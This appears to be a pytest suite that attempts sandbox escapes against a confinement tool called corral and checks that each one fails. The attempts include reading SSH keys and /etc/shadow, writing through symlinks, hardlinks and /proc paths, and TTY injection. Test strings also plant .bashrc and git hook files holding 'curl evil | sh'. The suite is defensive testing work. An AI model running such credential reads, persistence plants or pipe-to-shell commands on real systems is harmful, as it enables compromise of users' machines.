"""Escape attempts against a real corral sandbox, each run for both launchers (root, user).

Every test asserts on host-side effects (files unchanged, nothing created, secrets never
printed) and not only on the sandboxed command's exit status.
"""

from __future__ import annotations

import os
import pty
import shutil
import signal
import socket
import subprocess
import time
from pathlib import Path

import pytest

import helpers
from helpers import marker, quarantined, wait_for


def out_of(proc) -> str:
    return proc.stdout + proc.stderr


# ---------------------------------------------------------------------------------------
# reads
# ---------------------------------------------------------------------------------------


def test_deny_read_file(launcher, ws):
    secret = marker()
    ws.write("secret.txt", secret)
    s = ws.settings(denyRead=[str(ws.proj / "secret.txt")])
    p = ws.sh("cat secret.txt; echo rc=$?", "--settings", str(s))
    assert secret not in out_of(p)
    assert "rc=0" not in p.stdout
    assert (ws.proj / "secret.txt").read_text() == secret


def test_deny_read_directory_is_empty_and_unwritable(launcher, ws):
    secret = marker()
    ws.write("secrets/a.txt", secret)
    p = ws.sh("ls -A secrets; echo ls-done; touch secrets/x && echo touched; cat secrets/a.txt",
              "--deny-read", "secrets")
    assert p.stdout.splitlines()[0] == "ls-done", p.stdout
    assert "touched" not in p.stdout
    assert secret not in out_of(p)
    assert not (ws.proj / "secrets" / "x").exists()
    assert sorted(os.listdir(ws.proj / "secrets")) == ["a.txt"]


def test_deny_read_glob_pem(launcher, ws):
    k1, k2 = marker(), marker()
    ws.write("top.pem", k1)
    ws.write("a/b/key.pem", k2)
    ws.write("a/b/ok.txt", "visible-ok")
    s = ws.settings(denyRead=["**/*.pem"])
    p = ws.sh("cat top.pem a/b/key.pem; cat a/b/ok.txt", "--settings", str(s))
    assert k1 not in out_of(p) and k2 not in out_of(p)
    assert "visible-ok" in p.stdout


def test_allow_read_reopens_file_in_denied_dir(launcher, ws):
    priv = marker()
    ws.write("secrets/private.txt", priv)
    ws.write("secrets/public.txt", "public-ok")
    s = ws.settings(denyRead=[str(ws.proj / "secrets")], allowRead=[str(ws.proj / "secrets/public.txt")])
    p = ws.sh("cat secrets/public.txt; cat secrets/private.txt", "--settings", str(s))
    assert "public-ok" in p.stdout
    assert priv not in out_of(p)


def test_credential_ssh_key_unreadable(launcher, ws):
    ssh = Path(launcher.home) / ".ssh"
    created_dir = not ssh.exists()
    ssh.mkdir(mode=0o700, exist_ok=True)
    key = ssh / f"id_rsa_ct_{os.getpid()}"
    secret = marker()
    key.write_text(secret)
    os.chown(key, launcher.uid, launcher.gid)
    if created_dir:
        os.chown(ssh, launcher.uid, launcher.gid)
    try:
        # control: the launching user can read it outside the sandbox
        ctl = subprocess.run([*launcher.prefix, "cat", str(key)], env=launcher.env, capture_output=True, text=True)
        assert secret in ctl.stdout
        p = ws.sh(f"cat {key}; ls -A {ssh}")
        assert secret not in out_of(p)
        assert key.name not in p.stdout
    finally:
        key.unlink()
        if created_dir:
            ssh.rmdir()


def test_etc_shadow_unreadable(launcher, ws):
    if os.geteuid() == 0:
        assert "root:" in Path("/etc/shadow").read_text()  # control: root can read it on the host
    p = ws.sh("cat /etc/shadow; echo rc=$?")
    assert "root:" not in p.stdout
    assert "rc=0" not in p.stdout


# ---------------------------------------------------------------------------------------
# writes
# ---------------------------------------------------------------------------------------


def test_write_outside_cwd_fails(launcher, ws):
    p = ws.sh("echo pwn > ../outside/new.txt; echo pwn >> ../outside/victim.txt; touch /tmp/ct-escape-$$")
    assert not (ws.outside / "new.txt").exists()
    assert (ws.outside / "victim.txt").read_text() == "original\n"
    assert not list(Path("/tmp").glob("ct-escape-*"))  # /tmp is an overlay: writes vanish with the run


def test_write_to_cwd_works(launcher, ws):
    p = ws.sh("echo made > made.txt && mkdir -p d/e && echo deep > d/e/f.txt")
    assert p.returncode == 0, p.stderr
    assert (ws.proj / "made.txt").read_text() == "made\n"
    assert (ws.proj / "d/e/f.txt").read_text() == "deep\n"
    assert (ws.proj / "made.txt").stat().st_uid == launcher.uid


def test_allow_write_other_dir(launcher, ws):
    p = ws.sh("echo ok > ../outside/allowed.txt", "--allow-write", str(ws.outside))
    assert p.returncode == 0, p.stderr
    assert (ws.outside / "allowed.txt").read_text() == "ok\n"


@pytest.mark.parametrize("deny", ["outside/victim.txt", "outside"])
def test_deny_write_wins_over_allow_write(launcher, ws, deny):
    s = ws.settings(allowWrite=[str(ws.outside)], denyWrite=[str(ws.base / deny)])
    p = ws.sh("echo pwn >> ../outside/victim.txt; echo pwn > ../outside/victim.txt", "--settings", str(s))
    assert (ws.outside / "victim.txt").read_text() == "original\n"
    assert p.returncode != 0


def test_symlink_out_of_cwd_write_fails(launcher, ws):
    os.symlink("../outside", ws.proj / "hostlink")  # planted before the run
    ws.chown()
    p = ws.sh("ln -s ../outside/victim.txt inlink; echo pwn > inlink; echo pwn > hostlink/victim.txt; "
              "echo pwn > hostlink/new.txt")
    assert (ws.outside / "victim.txt").read_text() == "original\n"
    assert not (ws.outside / "new.txt").exists()  # (under /tmp: the write may land in its overlay, never here)


def test_hardlink_from_outside_then_write_fails(launcher, ws):
    p = ws.sh("ln ../outside/victim.txt hl; echo rc=$?; echo pwn > hl")
    assert "rc=0" not in p.stdout
    assert any(s in p.stderr for s in ("Invalid cross-device link", "Read-only file system")), p.stderr
    assert (ws.outside / "victim.txt").read_text() == "original\n"
    assert (ws.outside / "victim.txt").stat().st_nlink == 1


def test_rename_parent_of_protected_then_recreate_is_refused(launcher, ws, quarantine_cleanup):
    ws.write("sub/.bashrc", "original-rc\n")
    p = ws.sh("mv sub sub2; mkdir -p sub; echo evil > sub/.bashrc; cat sub/.bashrc")
    quarantine_cleanup.extend(quarantined(p.stderr).values())
    assert "Device or resource busy" in p.stderr, p.stderr  # the parent is pinned (a mount point)
    assert (ws.proj / "sub" / ".bashrc").read_text() == "original-rc\n"
    assert not (ws.proj / "sub2").exists()


def test_proc_self_root_write_fails(launcher, ws):
    ws.sh(f"echo pwn > /proc/self/root{ws.outside}/victim.txt; echo pwn > /proc/self/root{ws.outside}/n.txt")
    assert (ws.outside / "victim.txt").read_text() == "original\n"
    assert not (ws.outside / "n.txt").exists()


def test_proc_1_root_is_the_sandbox(launcher, ws):
    secret = marker()
    ws.write("secrets/m.txt", secret)
    p = ws.sh(f"cat /proc/1/root{ws.proj}/secrets/m.txt; ls -A /proc/1/root{ws.proj}/secrets; "
              f"echo pwn > /proc/1/root{ws.outside}/victim.txt; echo x > $TMPDIR/in-tmp; ls /proc/1/root$TMPDIR",
              "--deny-read", "secrets")
    assert secret not in out_of(p)
    assert "m.txt" not in p.stdout
    assert "in-tmp" in p.stdout  # /proc/1/root sees the sandbox's private TMPDIR
    assert (ws.outside / "victim.txt").read_text() == "original\n"


# ---------------------------------------------------------------------------------------
# protected files
# ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("rel", [".bashrc", "sub/deep/.bashrc"])
def test_existing_bashrc_unwritable(launcher, ws, rel):
    ws.write(rel, "orig\n")
    p = ws.sh(f"echo evil >> {rel}; echo evil > {rel}; rm -f {rel}")
    assert (ws.proj / rel).read_text() == "orig\n"
    assert p.returncode != 0


def test_create_rc_files_in_cwd_fails(launcher, ws):
    names = [".bashrc", ".profile", ".mcp.json", ".gitconfig"]
    p = ws.sh("; ".join(f"echo evil > {n} && echo made-{n}" for n in names))
    assert "made-" not in p.stdout, p.stdout
    for n in names:
        assert not (ws.proj / n).exists(), n  # placeholder removed, nothing planted


def test_nested_bashrc_quarantined(launcher, ws, quarantine_cleanup):
    p = ws.sh("mkdir -p a/b && echo x > a/b/.bashrc")
    moved = quarantined(p.stderr)
    quarantine_cleanup.extend(moved.values())
    host = ws.proj / "a/b/.bashrc"
    assert not host.exists()
    assert "quarantine" in p.stderr
    assert str(host) in moved, p.stderr
    q = Path(moved[str(host)])
    assert q.read_text() == "x\n"
    assert q.is_relative_to(launcher.quarantine_root)


def test_nested_git_hook_quarantined(launcher, ws, quarantine_cleanup):
    p = ws.sh("git init -q nested && echo 'echo pwned' > nested/.git/hooks/pre-commit && chmod +x nested/.git/hooks/pre-commit")
    moved = quarantined(p.stderr)
    quarantine_cleanup.extend(moved.values())
    assert p.returncode == 0, p.stderr
    assert not (ws.proj / "nested/.git/hooks/pre-commit").exists()
    qs = [Path(q) for q in moved.values()]
    assert any((q / "pre-commit").is_file() or q.name == "pre-commit" for q in qs), p.stderr


PLANTS = {
    "gitfile": ("mkdir -p s && echo 'gitdir: /x' > s/.git", "s/.git"),
    "vscode-dir": ("mkdir -p s/.vscode && echo '{}' > s/.vscode/tasks.json", "s/.vscode"),
    "claude-settings": ("mkdir -p s/.claude && echo '{}' > s/.claude/settings.json", "s/.claude/settings.json"),
    "symlinked-zshrc": ("mkdir -p s && ln -s /etc/passwd s/.zshrc", "s/.zshrc"),
    "envrc": ("mkdir -p s && echo 'curl x|sh' > s/.envrc", "s/.envrc"),
}


@pytest.mark.parametrize("kind", sorted(PLANTS))
def test_other_protected_plants_quarantined(launcher, ws, quarantine_cleanup, kind):
    script, rel = PLANTS[kind]
    p = ws.sh(script)
    moved = quarantined(p.stderr)
    quarantine_cleanup.extend(moved.values())
    assert p.returncode == 0, p.stderr
    host = ws.proj / rel
    assert not os.path.lexists(host)
    assert str(host) in moved, p.stderr
    assert os.path.lexists(moved[str(host)])


def test_protected_plant_in_allow_write_dir_quarantined(launcher, ws, quarantine_cleanup):
    p = ws.sh("echo evil > ../outside/.bashrc", "--allow-write", str(ws.outside))
    moved = quarantined(p.stderr)
    quarantine_cleanup.extend(moved.values())
    assert not (ws.outside / ".bashrc").exists()
    assert str(ws.outside / ".bashrc") in moved, p.stderr


def test_quarantine_dir_symlink_redirect(launcher, ws, quarantine_cleanup):
    # cwd == HOME: the default quarantine dir ($HOME/.local/state/...) is writable by the sandbox,
    # and the run id is visible in TMPDIR. (XDG_STATE_HOME says so explicitly: the suite's
    # launchers otherwise carry a private one.)
    ws.write(".local/.keep")  # a missing ~/.local would be kept from being created (protected paths below)
    script = ('id=${TMPDIR##*corral-}; q=.local/state/corral/quarantine/$id; '
              'mkdir -p a && echo evil > a/.bashrc && mkdir -p "$q$PWD" && ln -s "$PWD" "$q$PWD/a"')
    p = ws.sh(script, env_extra={"HOME": str(ws.proj), "XDG_STATE_HOME": str(ws.proj / ".local" / "state")})
    assert p.returncode == 0, p.stderr
    assert not (ws.proj / ".bashrc").exists(), "planted .bashrc landed in HOME"
    assert not (ws.proj / "a/.bashrc").exists()


@pytest.mark.parametrize("rel", [".git/hooks/pre-commit", ".git/config"])
def test_existing_git_hook_and_config_unwritable(launcher, ws, rel):
    ws.write(rel, "#!/bin/sh\n# orig\n", mode=0o755)
    before = (ws.proj / rel).read_text()
    ws.sh(f"echo 'curl evil | sh' >> {rel}; echo x > .git/hooks/post-checkout; git config core.hooksPath /tmp")
    assert (ws.proj / rel).read_text() == before
    assert not (ws.proj / ".git/hooks/post-checkout").exists()


def test_settings_file_in_cwd_unwritable(launcher, ws):
    s = ws.settings(name="policy.json")
    before = s.read_text()
    p = ws.sh(f"echo '{{}}' > {s.name}; echo rc=$?", "--settings", str(s))
    assert "rc=0" not in p.stdout
    assert s.read_text() == before


# ---------------------------------------------------------------------------------------
# process isolation
# ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("field,value", [("CapEff", "0000000000000000"), ("CapPrm", "0000000000000000"),
                                         ("NoNewPrivs", "1"), ("Seccomp", "2")])
def test_process_status(launcher, ws, field, value):
    p = ws.sh("cat /proc/self/status")
    fields = dict(line.split(":\t", 1) for line in p.stdout.splitlines() if ":\t" in line)
    assert fields[field].strip() == value


def test_setuid_binary_gains_nothing(launcher, ws):
    if os.geteuid() != 0:
        pytest.skip("needs root to make a setuid-root binary")
    suid = ws.base / "suidcat"
    shutil.copy("/bin/cat", suid)
    os.chown(suid, 0, 0)
    os.chmod(suid, 0o4755)
    # control: on the host the setuid bit works (when the launcher is unprivileged)
    if launcher.uid != 0:
        ctl = subprocess.run([*launcher.prefix, str(suid), "/proc/self/status"], env=launcher.env,
                             capture_output=True, text=True)
        assert "\t0\t" in [l for l in ctl.stdout.splitlines() if l.startswith("Uid:")][0]
    p = ws.sh(f"{suid} /proc/self/status")
    fields = dict(line.split(":\t", 1) for line in p.stdout.splitlines() if ":\t" in line)
    assert fields["CapEff"].strip() == "0000000000000000"
    assert fields["CapPrm"].strip() == "0000000000000000"
    if launcher.uid != 0:
        assert fields["Uid"].split()[1] != "0"  # effective uid not raised


def test_pid_namespace(launcher, ws):
    host_init = Path("/proc/1/cmdline").read_bytes().split(b"\0")[0].decode()
    p = ws.sh("ls /proc | grep -E '^[0-9]+$' | tr '\\n' ' '; echo; tr '\\0' ' ' < /proc/1/cmdline")
    lines = p.stdout.splitlines()
    pids = lines[0].split()
    assert 1 <= len(pids) <= 6, pids
    assert str(os.getpid()) not in pids or os.getpid() < 10
    assert host_init not in lines[1]


@pytest.mark.parametrize("cmd", ["unshare -U true", "unshare -r true", "unshare -n true"])
def test_nested_namespaces_refused(launcher, ws, cmd):
    p = ws.sh(f"{cmd} && echo UNSHARED")
    assert "UNSHARED" not in p.stdout
    assert p.returncode != 0


def test_unix_socket_refused(launcher, ws):
    p = ws.sh("python3 -c 'import socket\ntry:\n socket.socket(socket.AF_UNIX)\n print(\"OPENED\")\n"
              "except OSError as e:\n print(\"errno\", e.errno)'")
    assert p.stdout.strip() == "errno 1", out_of(p)


def test_no_network(launcher, ws):
    p = ws.sh("python3 -c 'import socket, errno\ns = socket.socket()\ns.settimeout(2)\ntry:\n"
              " s.connect((\"1.1.1.1\", 80))\n print(\"CONNECTED\")\nexcept OSError as e:\n"
              " print(errno.errorcode.get(e.errno, e))'")
    assert p.stdout.strip() == "ENETUNREACH", out_of(p)


def test_host_loopback_unreachable(launcher, ws):
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(5)
    srv.setblocking(False)
    port = srv.getsockname()[1]
    try:
        p = ws.sh("python3 -c 'import socket, errno\ns = socket.socket()\ns.settimeout(2)\ntry:\n"
                  f" s.connect((\"127.0.0.1\", {port}))\n print(\"CONNECTED\")\nexcept OSError as e:\n"
                  " print(errno.errorcode.get(e.errno, e))'")
        assert p.stdout.strip() == "ECONNREFUSED", out_of(p)
        with pytest.raises(BlockingIOError):
            srv.accept()
    finally:
        srv.close()


def test_no_inherited_fds(launcher, ws):
    extra = os.open(ws.proj / "README.txt", os.O_RDONLY)
    os.set_inheritable(extra, True)
    try:
        p = helpers.run(launcher, ["run", "--", "ls", "/proc/self/fd"], ws.proj, pass_fds=(extra,))
    finally:
        os.close(extra)
    assert p.stdout.split() == ["0", "1", "2", "3"], out_of(p)


def test_new_session(launcher, ws):
    p = ws.sh("python3 -c 'import os; print(os.getsid(0), os.getpgid(0))'")
    sid, _ = p.stdout.split()
    # corral's session lives outside the pid namespace, where getsid() would report 0
    assert sid != "0", p.stdout


TTY_PROBE = (
    "import os, fcntl, termios\n"
    "try:\n os.open('/dev/tty', os.O_RDWR); print('TTY-OPEN')\nexcept OSError: print('no-tty')\n"
    "try:\n fcntl.ioctl(0, termios.TIOCSTI, b'x'); print('TIOCSTI-OK')\nexcept OSError: print('tiocsti-refused')\n"
)


def _run_with_ctty(launcher, argv, cwd):
    """Run argv with a pty slave as stdin *and* controlling terminal, stdout a pipe."""
    import fcntl
    import termios

    master, slave = pty.openpty()

    def become_tty_owner():
        os.setsid()
        fcntl.ioctl(0, termios.TIOCSCTTY, 0)

    try:
        return subprocess.run(argv, cwd=cwd, env=launcher.env, stdin=slave, capture_output=True, text=True,
                              preexec_fn=become_tty_owner, timeout=30)
    finally:
        os.close(slave)
        os.close(master)


def test_tty_injection_refused(launcher, ws):
    ctl = _run_with_ctty(launcher, [*launcher.prefix, "python3", "-c", TTY_PROBE], ws.proj)
    assert "TTY-OPEN" in ctl.stdout  # control: outside, the terminal is reachable
    p = _run_with_ctty(launcher, launcher.argv(["run", "--", "python3", "-c", TTY_PROBE]), ws.proj)
    assert "no-tty" in p.stdout and "tiocsti-refused" in p.stdout, out_of(p)


# ---------------------------------------------------------------------------------------
# no debris
# ---------------------------------------------------------------------------------------


def test_no_debris_after_normal_exit(launcher, ws):
    before = ws.listing()
    p = ws.sh("echo $TMPDIR; echo x > $TMPDIR/f; ls -A")
    tmpdir = p.stdout.splitlines()[0]
    assert tmpdir.startswith("/tmp/corral-")
    assert ".bashrc" in p.stdout  # placeholders existed during the run
    assert not os.path.lexists(tmpdir)
    assert ws.listing() == before


def _kill_test(launcher, ws, quarantine_cleanup, killpg: bool):
    tag = f"1000.{os.getpid()}{int(time.time() * 1000) % 100000}"
    before = ws.listing()
    script = (f"mkdir -p k/l && echo evil > k/l/.bashrc && echo $TMPDIR > started.tmp && mv started.tmp started; "
              f"exec sleep {tag}")
    proc = helpers.popen(launcher, ["run", "-c", script], ws.proj, start_new_session=killpg)
    try:
        assert wait_for(lambda: (ws.proj / "started").exists(), timeout=10), proc.stderr and proc.poll()
        tmpdir = (ws.proj / "started").read_text().strip()
        assert os.path.lexists(tmpdir)
        # "started" is written just before `exec sleep`: give the exec a moment under load
        assert wait_for(lambda: helpers.pids_with_arg(tag)), "the sandboxed sleep never started"
        if killpg:
            os.killpg(proc.pid, signal.SIGKILL)
        else:
            os.kill(proc.pid, signal.SIGKILL)
        proc.wait(5)
        host_rc = ws.proj / "k/l/.bashrc"
        assert wait_for(lambda: not helpers.pids_with_arg(tag)), "sandboxed sleep survived"
        assert wait_for(lambda: not os.path.lexists(tmpdir)), f"{tmpdir} left behind"
        assert wait_for(lambda: not host_rc.exists()), "planted .bashrc not quarantined"
        run_id = tmpdir.rsplit("corral-", 1)[1]
        flat = str(host_rc).lstrip("/").replace("/", "%2F")
        boxes = lambda: list(launcher.quarantine_root.glob(f"{run_id}-*/{flat}"))  # noqa: E731
        assert wait_for(lambda: len(boxes()) == 1), f"{flat} not in the quarantine of run {run_id}"
        q = boxes()[0]
        quarantine_cleanup.append(str(q))
        assert q.read_text() == "evil\n"
        after = ws.listing() - {"started", "k", "k/l"}
        assert after == before, after ^ before
    finally:
        if proc.poll() is None:
            proc.kill()
        for pid in helpers.pids_with_arg(tag):
            os.kill(pid, signal.SIGKILL)
        for stream in (proc.stdout, proc.stderr):
            stream.close()


def test_no_debris_after_sigkill_of_corral(launcher, ws, quarantine_cleanup):
    _kill_test(launcher, ws, quarantine_cleanup, killpg=False)


def test_no_debris_after_sigkill_of_process_group(launcher, ws, quarantine_cleanup):
    _kill_test(launcher, ws, quarantine_cleanup, killpg=True)


# ---------------------------------------------------------------------------------------
# exit codes
# ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("script,code", [("exit 7", 7), ("kill -9 $$", 137), ("kill -TERM $$", 143), ("true", 0)])
def test_exit_status(launcher, ws, script, code):
    assert ws.sh(script).returncode == code


def _assert_corral_error(p, *needles, code=125):
    assert p.returncode == code, out_of(p)
    lines = p.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("corral: "), p.stderr
    assert "Traceback" not in p.stderr
    for n in needles:
        assert n in lines[0], lines[0]
    assert p.stdout == ""


def test_missing_settings_file(launcher, ws):
    p = helpers.run(launcher, ["run", "--settings", "/nonexistent.json", "--", "touch", "ran"], ws.proj)
    _assert_corral_error(p, "/nonexistent.json")
    assert not (ws.proj / "ran").exists()


def test_bad_json_settings(launcher, ws):
    bad = ws.write("bad.json", '{"filesystem": {')
    p = helpers.run(launcher, ["run", "--settings", str(bad), "--", "touch", "ran"], ws.proj)
    _assert_corral_error(p, "bad.json")
    assert not (ws.proj / "ran").exists()


def test_overly_broad_allowed_domain_refused(launcher, ws):
    s = ws.settings(allowedDomains=["*.co.uk"])
    p = helpers.run(launcher, ["run", "--settings", str(s), "--", "touch", "ran"], ws.proj)
    _assert_corral_error(p, "*.co.uk")
    assert not (ws.proj / "ran").exists()


def test_bad_allow_domain_option_refused(launcher, ws):
    p = helpers.run(launcher, ["run", "--allow-domain", "*", "--", "touch", "ran"], ws.proj)
    _assert_corral_error(p, "--allow-domain", code=2)  # a bad command-line value: a usage error
    assert not (ws.proj / "ran").exists()


# ---------------------------------------------------------------------------------------
# concurrent runs in one directory share placeholders
# ---------------------------------------------------------------------------------------


def test_concurrent_runs_in_one_directory(launcher, ws):
    """Run A makes the placeholders, run B starts while A runs, A ends first: B must keep its
    protection (removing A's placeholders would detach B's read-only binds of them)."""
    import time

    settings = ws.settings(allowWrite=[str(ws.proj)])

    def start(wait_for, script):
        return helpers.popen(launcher, ["run", "--settings", str(settings), "--", "sh", "-c",
                                        f"while [ ! -e {wait_for} ]; do sleep 0.05; done; {script}"], ws.proj)

    def wait_until(cond, procs):
        deadline = time.monotonic() + 20
        while not cond():
            assert all(p.poll() is None for p in procs) and time.monotonic() < deadline
            time.sleep(0.05)

    procs = []
    try:
        a = start("go-a", "true")
        procs.append(a)
        wait_until(lambda: (ws.proj / ".bashrc").exists(), [a])  # A's placeholders are in place
        b = start("go-b", "touch b-started; while [ ! -e go-b2 ]; do sleep 0.05; done; "
                          "echo evil > .bashrc; echo rc=$?; mkdir -p .claude/agents; echo rc=$?; "
                          "echo evil > .envrc; echo rc=$?")
        procs.append(b)
        (ws.proj / "go-b").write_text("")
        wait_until(lambda: (ws.proj / "b-started").exists(), [a, b])
        (ws.proj / "go-a").write_text("")
        ws.chown()
        a.communicate(timeout=30)
        assert a.returncode == 0
        assert (ws.proj / ".bashrc").exists()  # still there: B holds it
        (ws.proj / "go-b2").write_text("")
        ws.chown()
        out, err = b.communicate(timeout=30)
        assert out.splitlines() == ["rc=2", "rc=1", "rc=2"], out + err  # all refused
        # the last run out removed every placeholder; nothing was planted
        assert not (ws.proj / ".bashrc").exists() and not (ws.proj / ".claude").exists()
        assert not (ws.proj / ".envrc").exists()
    finally:
        for p in procs:
            if p.poll() is None:
                p.kill()
                p.communicate()


@pytest.mark.parametrize("name, text", [
    ("deep.json", '{"a":' + "[" * 100000 + "1" + "]" * 100000 + "}"),
    ("deep.toml", "[network]\nallowed_domains = " + "[" * 5000 + "1" + "]" * 5000 + "\n"),
    ("ctl.json", '{"network": {"allowedDomains": ["a\x01b"]}}'),
])
def test_hostile_settings_files_get_one_line(launcher, ws, name, text):
    bad = ws.write(name, text)
    p = helpers.run(launcher, ["run", "--settings", str(bad), "--", "touch", "ran"], ws.proj)
    _assert_corral_error(p, name)
    assert " at at " not in p.stderr
    assert not (ws.proj / "ran").exists()
